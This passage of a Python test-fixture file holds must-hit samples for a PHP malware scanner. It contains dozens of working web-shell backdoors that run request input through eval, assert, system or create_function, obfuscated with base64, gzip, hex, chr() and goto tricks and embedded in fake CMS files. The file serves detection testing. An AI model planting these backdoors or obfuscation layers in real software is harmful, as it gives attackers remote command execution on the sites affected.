# ruff: noqa: E501
"""Must-hit / near-miss samples for issue 4m: obfuscation layers and hidden sinks.

Variants written for the tests (decoder chains in other orders and nestings, intermediate variables,
payloads split into pieces or imploded arrays, chr()/escape/alphabet-picked names, goto spaghetti,
O0/Il-named encoders, create_function, split or escaped preg_replace /e, callbacks and closures,
helper functions, short-circuit sinks, header loops, extract(), ${'_'.'POST'}); nothing here comes
from the malware corpus. Each must-hit is checked three ways: as written, `padded(...)` behind 5 KB of
neutral HTML, and `embedded(...)` at the top of a ~40 KB legit-looking PHP class file (how injected
code sits in a CMS file). Collected by tests/test_rules.py.
"""

from __future__ import annotations

_PAD = (
    "<html><head><title>Site</title></head><body>\n"
    + "<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n" * 80
    + "</body></html>\n"
)

_METHOD = """
    /** Load one stored item by id and shape it for the list table. */
    public function get_item_{n}($id, $args = array()) {{
        $args = array_merge($this->defaults, (array) $args);
        $row = $this->db->get_row($this->db->prepare("SELECT * FROM {{$this->table}} WHERE id = %d", $id));
        if (!$row) {{
            return new WP_Error('not_found', __('Item not found.'), array('status' => 404));
        }}
        $title = isset($row->title) ? esc_html($row->title) : '';
        $this->cache[$id] = array('id' => (int) $row->id, 'title' => $title, 'order' => $args['order']);
        return $this->cache[$id];
    }}
"""

_HOST = (
    "\nclass Site_Items_Table {\n    private $db;\n    private $table = 'items';\n    private $cache = array();\n"
    + "    private $defaults = array('order' => 'ASC');\n"
    + "".join(_METHOD.format(n=n) for n in range(90))
    + "}\n"
)


def plain(code: str) -> bytes:
    """The snippet as written."""
    return code.encode()


def padded(code: str) -> bytes:
    """The snippet behind about 5 KB of neutral HTML (an injected one-liner)."""
    return (_PAD + code).encode()


def embedded(code: str) -> bytes:
    """The snippet injected at the top of a ~45 KB legit-looking PHP class file."""
    return (code.rstrip() + "\n?>\n<?php" + _HOST).encode()


CASES: list[tuple[str, bytes, bool]] = [
    # a:intermediate_vars
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        plain(
            "<?php\n$str = 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\n$dec = base64_decode($str);\n$code = gzinflate($dec);\neval($code);\n"
        ),
        True,
    ),
    # a:intermediate_vars
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        padded(
            "<?php\n$str = 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\n$dec = base64_decode($str);\n$code = gzinflate($dec);\neval($code);\n"
        ),
        True,
    ),
    # a:intermediate_vars
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        embedded(
            "<?php\n$str = 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\n$dec = base64_decode($str);\n$code = gzinflate($dec);\neval($code);\n"
        ),
        True,
    ),
    # a:rot_b64_gzunc
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        plain(
            "<?php @eval(gzuncompress(base64_decode(str_rot13('rAcmXX4fYxaA1IPWq3pAvIMXIbeIgSMVGp7VI1QXm1nlOtPtUjyf'))));\n"
        ),
        True,
    ),
    # a:rot_b64_gzunc
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        padded(
            "<?php @eval(gzuncompress(base64_decode(str_rot13('rAcmXX4fYxaA1IPWq3pAvIMXIbeIgSMVGp7VI1QXm1nlOtPtUjyf'))));\n"
        ),
        True,
    ),
    # a:rot_b64_gzunc
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        embedded(
            "<?php @eval(gzuncompress(base64_decode(str_rot13('rAcmXX4fYxaA1IPWq3pAvIMXIbeIgSMVGp7VI1QXm1nlOtPtUjyf'))));\n"
        ),
        True,
    ),
    # a:gzdecode
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        plain(
            '<?php\neval(gzdecode(base64_decode("H4sIAAAAAAACA3MoriwuSc3VUIl3dw2JVkpWitW0VkhNzshXUMrPVrIGAJX3BDwfAAAA")));\n'
        ),
        True,
    ),
    # a:gzdecode
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        padded(
            '<?php\neval(gzdecode(base64_decode("H4sIAAAAAAACA3MoriwuSc3VUIl3dw2JVkpWitW0VkhNzshXUMrPVrIGAJX3BDwfAAAA")));\n'
        ),
        True,
    ),
    # a:gzdecode
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        embedded(
            '<?php\neval(gzdecode(base64_decode("H4sIAAAAAAACA3MoriwuSc3VUIl3dw2JVkpWitW0VkhNzshXUMrPVrIGAJX3BDwfAAAA")));\n'
        ),
        True,
    ),
    # a:strrev_b64
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        plain("<?php eval(strrev(base64_decode('OyJrbyIgb2hjZSA7KV0iYyJbVEVHXyQobWV0c3lzQA==')));\n"),
        True,
    ),
    # a:strrev_b64
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        padded("<?php eval(strrev(base64_decode('OyJrbyIgb2hjZSA7KV0iYyJbVEVHXyQobWV0c3lzQA==')));\n"),
        True,
    ),
    # a:strrev_b64
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        embedded("<?php eval(strrev(base64_decode('OyJrbyIgb2hjZSA7KV0iYyJbVEVHXyQobWV0c3lzQA==')));\n"),
        True,
    ),
    # a:assert_b64_strrev
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        plain("<?php @assert(base64_decode(strrev('==wOis2biAyboNWZgsTKdJyYisFVFd0XkgSblR3c5NHQ')));\n"),
        True,
    ),
    # a:assert_b64_strrev
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        padded("<?php @assert(base64_decode(strrev('==wOis2biAyboNWZgsTKdJyYisFVFd0XkgSblR3c5NHQ')));\n"),
        True,
    ),
    # a:assert_b64_strrev
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        embedded("<?php @assert(base64_decode(strrev('==wOis2biAyboNWZgsTKdJyYisFVFd0XkgSblR3c5NHQ')));\n"),
        True,
    ),
    # a:uudecode
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        plain("<?php\neval(convert_uudecode('?0\\'-Y<W1E;2@D7T=%5%LB8R)=*3L@96-H;R B;VLB.P  \n`\n'));\n"),
        True,
    ),
    # a:uudecode
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        padded("<?php\neval(convert_uudecode('?0\\'-Y<W1E;2@D7T=%5%LB8R)=*3L@96-H;R B;VLB.P  \n`\n'));\n"),
        True,
    ),
    # a:uudecode
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        embedded("<?php\neval(convert_uudecode('?0\\'-Y<W1E;2@D7T=%5%LB8R)=*3L@96-H;R B;VLB.P  \n`\n'));\n"),
        True,
    ),
    # a:hex2bin
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        plain("<?php eval(hex2bin('4073797374656d28245f4745545b2263225d293b206563686f20226f6b223b'));\n"),
        True,
    ),
    # a:hex2bin
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        padded("<?php eval(hex2bin('4073797374656d28245f4745545b2263225d293b206563686f20226f6b223b'));\n"),
        True,
    ),
    # a:hex2bin
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        embedded("<?php eval(hex2bin('4073797374656d28245f4745545b2263225d293b206563686f20226f6b223b'));\n"),
        True,
    ),
    # a:pack_H
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        plain(
            "<?php\n@eval(pack('H*', '4073797374656d28245f4745545b2263225d293b206563686f20226f6b223b'));\n"
        ),
        True,
    ),
    # a:pack_H
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        padded(
            "<?php\n@eval(pack('H*', '4073797374656d28245f4745545b2263225d293b206563686f20226f6b223b'));\n"
        ),
        True,
    ),
    # a:pack_H
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        embedded(
            "<?php\n@eval(pack('H*', '4073797374656d28245f4745545b2263225d293b206563686f20226f6b223b'));\n"
        ),
        True,
    ),
    # a:concat_pieces
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        plain(
            "<?php\n$p = 'QHN5c3Rlb'.'SgkX0dFVF'.'siYyJdKTs'.'gZWNobyAi'.'b2siOw==';\neval(base64_decode($p));\n"
        ),
        True,
    ),
    # a:concat_pieces
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        padded(
            "<?php\n$p = 'QHN5c3Rlb'.'SgkX0dFVF'.'siYyJdKTs'.'gZWNobyAi'.'b2siOw==';\neval(base64_decode($p));\n"
        ),
        True,
    ),
    # a:concat_pieces
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        embedded(
            "<?php\n$p = 'QHN5c3Rlb'.'SgkX0dFVF'.'siYyJdKTs'.'gZWNobyAi'.'b2siOw==';\neval(base64_decode($p));\n"
        ),
        True,
    ),
    # a:implode_array
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        plain(
            "<?php\n$parts = array('cyiuLC5JzdVQiXd3DYlW', 'SlaK1bRWSE3OyFdQys9W', 'sgYA');\neval(gzinflate(base64_decode(implode('', $parts))));\n"
        ),
        True,
    ),
    # a:implode_array
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        padded(
            "<?php\n$parts = array('cyiuLC5JzdVQiXd3DYlW', 'SlaK1bRWSE3OyFdQys9W', 'sgYA');\neval(gzinflate(base64_decode(implode('', $parts))));\n"
        ),
        True,
    ),
    # a:implode_array
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        embedded(
            "<?php\n$parts = array('cyiuLC5JzdVQiXd3DYlW', 'SlaK1bRWSE3OyFdQys9W', 'sgYA');\neval(gzinflate(base64_decode(implode('', $parts))));\n"
        ),
        True,
    ),
    # a:join_short_array
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        plain(
            '<?php eval(base64_decode(join("", ["QHN5c3Rlb", "SgkX0dFVF", "siYyJdKTs", "gZWNobyAi", "b2siOw=="])));\n'
        ),
        True,
    ),
    # a:join_short_array
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        padded(
            '<?php eval(base64_decode(join("", ["QHN5c3Rlb", "SgkX0dFVF", "siYyJdKTs", "gZWNobyAi", "b2siOw=="])));\n'
        ),
        True,
    ),
    # a:join_short_array
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        embedded(
            '<?php eval(base64_decode(join("", ["QHN5c3Rlb", "SgkX0dFVF", "siYyJdKTs", "gZWNobyAi", "b2siOw=="])));\n'
        ),
        True,
    ),
    # a:chr_assert
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        plain("<?php\n$f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);\n$f($_POST['x']);\n"),
        True,
    ),
    # a:chr_assert
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        padded("<?php\n$f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);\n$f($_POST['x']);\n"),
        True,
    ),
    # a:chr_assert
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        embedded("<?php\n$f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);\n$f($_POST['x']);\n"),
        True,
    ),
    # a:chr_arith
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        plain(
            "<?php\n$f = chr(100+15).chr(120+1).chr(115).chr(58+58).chr(101).chr(109);\n@$f($_REQUEST['c']);\n"
        ),
        True,
    ),
    # a:chr_arith
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        padded(
            "<?php\n$f = chr(100+15).chr(120+1).chr(115).chr(58+58).chr(101).chr(109);\n@$f($_REQUEST['c']);\n"
        ),
        True,
    ),
    # a:chr_arith
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        embedded(
            "<?php\n$f = chr(100+15).chr(120+1).chr(115).chr(58+58).chr(101).chr(109);\n@$f($_REQUEST['c']);\n"
        ),
        True,
    ),
    # a:chr_hex
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        plain("<?php $f=chr(0x73).chr(0x79).chr(0x73).chr(0x74).chr(0x65).chr(0x6d); $f($_GET['cmd']);\n"),
        True,
    ),
    # a:chr_hex
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        padded("<?php $f=chr(0x73).chr(0x79).chr(0x73).chr(0x74).chr(0x65).chr(0x6d); $f($_GET['cmd']);\n"),
        True,
    ),
    # a:chr_hex
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        embedded("<?php $f=chr(0x73).chr(0x79).chr(0x73).chr(0x74).chr(0x65).chr(0x6d); $f($_GET['cmd']);\n"),
        True,
    ),
    # a:xescaped_assert
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        plain("<?php\n$f = \"\\x61\\x73\\x73\\x65\\x72\\x74\";\n$f($_REQUEST['p']);\n"),
        True,
    ),
    # a:xescaped_assert
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        padded("<?php\n$f = \"\\x61\\x73\\x73\\x65\\x72\\x74\";\n$f($_REQUEST['p']);\n"),
        True,
    ),
    # a:xescaped_assert
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        embedded("<?php\n$f = \"\\x61\\x73\\x73\\x65\\x72\\x74\";\n$f($_REQUEST['p']);\n"),
        True,
    ),
    # a:octal_system
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        plain("<?php $f = \"\\163\\171\\163\\164\\145\\155\"; $f($_GET['c']);\n"),
        True,
    ),
    # a:octal_system
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        padded("<?php $f = \"\\163\\171\\163\\164\\145\\155\"; $f($_GET['c']);\n"),
        True,
    ),
    # a:octal_system
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        embedded("<?php $f = \"\\163\\171\\163\\164\\145\\155\"; $f($_GET['c']);\n"),
        True,
    ),
    # a:mixed_escape
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        plain("<?php\n$run = \"\\x73y\\163t\\x65m\";\n$run(stripslashes($_POST['c']));\n"),
        True,
    ),
    # a:mixed_escape
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        padded("<?php\n$run = \"\\x73y\\163t\\x65m\";\n$run(stripslashes($_POST['c']));\n"),
        True,
    ),
    # a:mixed_escape
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        embedded("<?php\n$run = \"\\x73y\\163t\\x65m\";\n$run(stripslashes($_POST['c']));\n"),
        True,
    ),
    # a:create_function_concat
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        plain(
            "<?php\n$a = 'cr'.'eate_'.'function';\n$b = $a('', base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n$b();\n"
        ),
        True,
    ),
    # a:create_function_concat
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        padded(
            "<?php\n$a = 'cr'.'eate_'.'function';\n$b = $a('', base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n$b();\n"
        ),
        True,
    ),
    # a:create_function_concat
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        embedded(
            "<?php\n$a = 'cr'.'eate_'.'function';\n$b = $a('', base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n$b();\n"
        ),
        True,
    ),
    # a:substr_junk
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        plain("<?php\n$j = 'xzassertqq';\n$f = substr($j, 2, 6);\n$f($_POST['q']);\n"),
        True,
    ),
    # a:substr_junk
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        padded("<?php\n$j = 'xzassertqq';\n$f = substr($j, 2, 6);\n$f($_POST['q']);\n"),
        True,
    ),
    # a:substr_junk
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        embedded("<?php\n$j = 'xzassertqq';\n$f = substr($j, 2, 6);\n$f($_POST['q']);\n"),
        True,
    ),
    # a:str_replace_junk
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        plain("<?php\n$f = str_replace('X', '', 'aXsXsXeXrXt');\n$f($_POST['q']);\n"),
        True,
    ),
    # a:str_replace_junk
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        padded("<?php\n$f = str_replace('X', '', 'aXsXsXeXrXt');\n$f($_POST['q']);\n"),
        True,
    ),
    # a:str_replace_junk
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        embedded("<?php\n$f = str_replace('X', '', 'aXsXsXeXrXt');\n$f($_POST['q']);\n"),
        True,
    ),
    # a:alphabet_index
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        plain(
            "<?php\n$k = 'abcdefghijklmnopqrstuvwxyz';\n$f = $k[0].$k[18].$k[18].$k[4].$k[17].$k[19];\n$f($_POST['x']);\n"
        ),
        True,
    ),
    # a:alphabet_index
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        padded(
            "<?php\n$k = 'abcdefghijklmnopqrstuvwxyz';\n$f = $k[0].$k[18].$k[18].$k[4].$k[17].$k[19];\n$f($_POST['x']);\n"
        ),
        True,
    ),
    # a:alphabet_index
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        embedded(
            "<?php\n$k = 'abcdefghijklmnopqrstuvwxyz';\n$f = $k[0].$k[18].$k[18].$k[4].$k[17].$k[19];\n$f($_POST['x']);\n"
        ),
        True,
    ),
    # a:alphabet_curly
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        plain(
            "<?php\n$k = 'zyxwvutsrqponmlkjihgfedcba_';\n$f = $k{7}.$k{1}.$k{7}.$k{6}.$k{21}.$k{13};\n$f($_COOKIE['x']);\n"
        ),
        True,
    ),
    # a:alphabet_curly
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        padded(
            "<?php\n$k = 'zyxwvutsrqponmlkjihgfedcba_';\n$f = $k{7}.$k{1}.$k{7}.$k{6}.$k{21}.$k{13};\n$f($_COOKIE['x']);\n"
        ),
        True,
    ),
    # a:alphabet_curly
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        embedded(
            "<?php\n$k = 'zyxwvutsrqponmlkjihgfedcba_';\n$f = $k{7}.$k{1}.$k{7}.$k{6}.$k{21}.$k{13};\n$f($_COOKIE['x']);\n"
        ),
        True,
    ),
    # a:goto_spaghetti
    (
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        plain(
            "<?php\ngoto a1;\nb2: eval($p); goto c3;\na1: $p = base64_decode($_POST['x']); goto b2;\nc3: echo '';\n"
        ),
        True,
    ),
    # a:goto_spaghetti
    (
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        padded(
            "<?php\ngoto a1;\nb2: eval($p); goto c3;\na1: $p = base64_decode($_POST['x']); goto b2;\nc3: echo '';\n"
        ),
        True,
    ),
    # a:goto_spaghetti
    (
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        embedded(
            "<?php\ngoto a1;\nb2: eval($p); goto c3;\na1: $p = base64_decode($_POST['x']); goto b2;\nc3: echo '';\n"
        ),
        True,
    ),
    # a:fopo_like
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        plain(
            "<?php $O0O0O0 = urldecode('%62%61%73%65%36%34%5f%64%65%63%6f%64%65'); $O00O0O = 'gz'.'inflate';\neval($O00O0O($O0O0O0('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n"
        ),
        True,
    ),
    # a:fopo_like
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        padded(
            "<?php $O0O0O0 = urldecode('%62%61%73%65%36%34%5f%64%65%63%6f%64%65'); $O00O0O = 'gz'.'inflate';\neval($O00O0O($O0O0O0('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n"
        ),
        True,
    ),
    # a:fopo_like
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        embedded(
            "<?php $O0O0O0 = urldecode('%62%61%73%65%36%34%5f%64%65%63%6f%64%65'); $O00O0O = 'gz'.'inflate';\neval($O00O0O($O0O0O0('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n"
        ),
        True,
    ),
    # a:fopo_alphabet
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        plain(
            "<?php\n$OO0O0=urldecode('%61%73%65%62%64%6f%63%5f%36%34%67%7a%69%6e%66%6c%74');$O0OO0=$OO0O0[3].$OO0O0[0].$OO0O0[1].$OO0O0[2].$OO0O0[8].$OO0O0[9].$OO0O0[7].$OO0O0[4].$OO0O0[2].$OO0O0[6].$OO0O0[5].$OO0O0[4].$OO0O0[2];\neval($O0OO0('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n"
        ),
        True,
    ),
    # a:fopo_alphabet
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        padded(
            "<?php\n$OO0O0=urldecode('%61%73%65%62%64%6f%63%5f%36%34%67%7a%69%6e%66%6c%74');$O0OO0=$OO0O0[3].$OO0O0[0].$OO0O0[1].$OO0O0[2].$OO0O0[8].$OO0O0[9].$OO0O0[7].$OO0O0[4].$OO0O0[2].$OO0O0[6].$OO0O0[5].$OO0O0[4].$OO0O0[2];\neval($O0OO0('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n"
        ),
        True,
    ),
    # a:fopo_alphabet
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        embedded(
            "<?php\n$OO0O0=urldecode('%61%73%65%62%64%6f%63%5f%36%34%67%7a%69%6e%66%6c%74');$O0OO0=$OO0O0[3].$OO0O0[0].$OO0O0[1].$OO0O0[2].$OO0O0[8].$OO0O0[9].$OO0O0[7].$OO0O0[4].$OO0O0[2].$OO0O0[6].$OO0O0[5].$OO0O0[4].$OO0O0[2];\neval($O0OO0('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n"
        ),
        True,
    ),
    # a:Il_names
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        plain(
            "<?php\n$lIlI1 = 'ba'.'se'.'64_d'.'ecode';\n$I1lIl = $lIlI1('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==');\neval($I1lIl);\n"
        ),
        True,
    ),
    # a:Il_names
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        padded(
            "<?php\n$lIlI1 = 'ba'.'se'.'64_d'.'ecode';\n$I1lIl = $lIlI1('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==');\neval($I1lIl);\n"
        ),
        True,
    ),
    # a:Il_names
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        embedded(
            "<?php\n$lIlI1 = 'ba'.'se'.'64_d'.'ecode';\n$I1lIl = $lIlI1('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==');\neval($I1lIl);\n"
        ),
        True,
    ),
    # a:eval_Ovar_nested
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        plain(
            "<?php\n$O00OO0 = 'base64_decode'; $O0O0O0 = 'gzinflate';\neval($O0O0O0($O00OO0(\"cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA\")));\n"
        ),
        True,
    ),
    # a:eval_Ovar_nested
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        padded(
            "<?php\n$O00OO0 = 'base64_decode'; $O0O0O0 = 'gzinflate';\neval($O0O0O0($O00OO0(\"cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA\")));\n"
        ),
        True,
    ),
    # a:eval_Ovar_nested
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        embedded(
            "<?php\n$O00OO0 = 'base64_decode'; $O0O0O0 = 'gzinflate';\neval($O0O0O0($O00OO0(\"cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA\")));\n"
        ),
        True,
    ),
    # a:create_function_input
    ("SPAMGEAR_FAMILY_ChinaChopper", plain("<?php\n$f = create_function('', $_POST['c']);\n$f();\n"), True),
    # a:create_function_input
    ("SPAMGEAR_INPUT_EvalOfInput", padded("<?php\n$f = create_function('', $_POST['c']);\n$f();\n"), True),
    # a:create_function_input
    ("SPAMGEAR_INPUT_EvalOfInput", embedded("<?php\n$f = create_function('', $_POST['c']);\n$f();\n"), True),
    # a:create_function_b64_input
    (
        "SPAMGEAR_FAMILY_ChinaChopper",
        plain("<?php $lambda = @create_function('$a', base64_decode($_REQUEST['code'])); $lambda(1);\n"),
        True,
    ),
    # a:create_function_b64_input
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        padded("<?php $lambda = @create_function('$a', base64_decode($_REQUEST['code'])); $lambda(1);\n"),
        True,
    ),
    # a:create_function_b64_input
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        embedded("<?php $lambda = @create_function('$a', base64_decode($_REQUEST['code'])); $lambda(1);\n"),
        True,
    ),
    # a:preg_e_b64
    (
        "SPAMGEAR_INPUT_PregEvalDecodedReplacement",
        plain(
            "<?php preg_replace('/.*/e', base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='), '');\n"
        ),
        True,
    ),
    # a:preg_e_b64
    (
        "SPAMGEAR_INPUT_PregEvalDecodedReplacement",
        padded(
            "<?php preg_replace('/.*/e', base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='), '');\n"
        ),
        True,
    ),
    # a:preg_e_b64
    (
        "SPAMGEAR_INPUT_PregEvalDecodedReplacement",
        embedded(
            "<?php preg_replace('/.*/e', base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='), '');\n"
        ),
        True,
    ),
    # a:preg_split_e
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        plain("<?php\n@preg_replace('/x/'.'e', $_POST['c'], 'x');\n"),
        True,
    ),
    # a:preg_split_e
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        padded("<?php\n@preg_replace('/x/'.'e', $_POST['c'], 'x');\n"),
        True,
    ),
    # a:preg_split_e
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        embedded("<?php\n@preg_replace('/x/'.'e', $_POST['c'], 'x');\n"),
        True,
    ),
    # a:preg_modvar
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        plain("<?php\n$m = '/.*/';\n$m .= 'e';\npreg_replace($m, $_REQUEST['c'], '.');\n"),
        True,
    ),
    # a:preg_modvar
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        padded("<?php\n$m = '/.*/';\n$m .= 'e';\npreg_replace($m, $_REQUEST['c'], '.');\n"),
        True,
    ),
    # a:preg_modvar
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        embedded("<?php\n$m = '/.*/';\n$m .= 'e';\npreg_replace($m, $_REQUEST['c'], '.');\n"),
        True,
    ),
    # a:preg_hexe
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        plain("<?php preg_replace(\"/.*/\\x65\", $_REQUEST['c'], 'a');\n"),
        True,
    ),
    # a:preg_hexe
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        padded("<?php preg_replace(\"/.*/\\x65\", $_REQUEST['c'], 'a');\n"),
        True,
    ),
    # a:preg_hexe
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        embedded("<?php preg_replace(\"/.*/\\x65\", $_REQUEST['c'], 'a');\n"),
        True,
    ),
    # a:array_map_decoded
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        plain("<?php array_map(base64_decode('YXNzZXJ0'), array($_POST['x']));\n"),
        True,
    ),
    # a:array_map_decoded
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        padded("<?php array_map(base64_decode('YXNzZXJ0'), array($_POST['x']));\n"),
        True,
    ),
    # a:array_map_decoded
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        embedded("<?php array_map(base64_decode('YXNzZXJ0'), array($_POST['x']));\n"),
        True,
    ),
    # a:array_filter_req_cb
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        plain("<?php\n$arr = array($_REQUEST['c']);\narray_filter($arr, $_REQUEST['f']);\n"),
        True,
    ),
    # a:array_filter_req_cb
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        padded("<?php\n$arr = array($_REQUEST['c']);\narray_filter($arr, $_REQUEST['f']);\n"),
        True,
    ),
    # a:array_filter_req_cb
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        embedded("<?php\n$arr = array($_REQUEST['c']);\narray_filter($arr, $_REQUEST['f']);\n"),
        True,
    ),
    # a:usort_req
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        plain("<?php\n$a = array($_POST['pass'], 'x');\n@usort($a, $_GET['cb']);\n"),
        True,
    ),
    # a:usort_req
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        padded("<?php\n$a = array($_POST['pass'], 'x');\n@usort($a, $_GET['cb']);\n"),
        True,
    ),
    # a:usort_req
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        embedded("<?php\n$a = array($_POST['pass'], 'x');\n@usort($a, $_GET['cb']);\n"),
        True,
    ),
    # a:uasort_decoded
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
